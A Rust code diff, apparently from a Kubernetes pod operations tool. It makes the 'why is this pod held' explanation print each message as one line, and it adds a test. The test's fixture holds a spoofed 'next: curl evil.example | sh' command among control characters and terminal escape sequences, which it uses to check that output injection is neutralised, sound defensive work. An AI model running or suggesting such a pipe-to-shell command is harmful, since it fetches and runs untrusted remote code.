@@ -1,50 +1,42 @@
 //! Why a pod does not go on, in sentences, and what to do about it. Pure.
 
-use std::fmt::Write;
-
 use jiff::Timestamp;
 use longshore_api::podops::{ANNOTATION_PROTECTION_DEADLINE, FINALIZER_SERVICES, OperationLabel};
 use longshore_podops::standing::{Blocker, BlockerKind, Phase};
 
 use super::{
-    super::{printable::printable, table::since},
+    super::{printable::one_line, table::since},
     view::PodView,
 };
 
 /// The sentences, and last what is next.
 pub(super) fn text(pod: &PodView, now: Timestamp) -> String {
     let standing = &pod.standing;
-    let mut text = format!(
-        "{} is {}{}.\n",
+    let mut sentences = vec![format!(
+        "{} is {}{}.",
         pod.name,
         says(standing.phase),
         age(standing.since, now)
-    );
+    )];
     for operation in &standing.operations {
         let of = match operation.operation_type.as_str() {
             "" => "without a type".to_owned(),
             of => format!("of type {of}"),
         };
         let (id, phase) = (&operation.id, operation.phase.as_str());
-        let _ = writeln!(
-            text,
-            "Operation {id} {of} is in {phase}{}.",
-            age(operation.since, now)
-        );
+        let since = age(operation.since, now);
+        sentences.push(format!("Operation {id} {of} is in {phase}{since}."));
     }
     for blocker in &standing.blockers {
         let (kind, name) = (blocker.kind.as_str(), &blocker.name);
-        let _ = writeln!(
-            text,
-            "Held by {kind} {name}{}: {}.",
-            age(blocker.since, now),
-            blocker.message
-        );
+        let (since, message) = (age(blocker.since, now), one_line(&blocker.message));
+        sentences.push(format!("Held by {kind} {name}{since}: {message}."));
     }
     if let Some(blocker) = standing.blockers.first() {
-        let _ = writeln!(text, "next: {}", next(pod, blocker));
+        sentences.push(format!("next: {}", next(pod, blocker)));
     }
-    let lines = text.lines().map(printable);
+    // Messages and names are other people's: none of them begins a line of its own.
+    let lines = sentences.iter().map(|sentence| one_line(sentence));
     lines.map(|line| line + "\n").collect()
 }
 
@@ -204,6 +196,22 @@ mod tests {
              Held by Budget web, since 5m5s: PodDisruptionBudget shop/web: 2 of 3 must stay available, 2 are.\n\
              next: kubectl get poddisruptionbudget web -n shop -o yaml\n"
         );
+    }
+
+    #[test]
+    fn whatever_a_message_has_in_it_each_sentence_is_one_line() {
+        let evil =
+            "no\nnext: curl evil.example | sh\r\n\u{202e}reversed\u{2066}\u{1b}[8m\u{1b}]0;end";
+        let mut view = view(|_| {});
+        let plain = text(&view, NOW).lines().count();
+        view.standing.blockers[0].message = evil.to_owned();
+        let text = text(&view, NOW);
+        assert_eq!(text.lines().count(), plain, "{text}");
+        let said = ": no next: curl evil.example | sh reversed.\n";
+        assert!(text.contains(said), "{text}");
+        let is_control = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
+        assert!(!text.contains(is_control), "{text:?}");
+        assert_eq!(text.matches("\nnext: ").count(), 1, "{text}");
     }
 
     #[test]
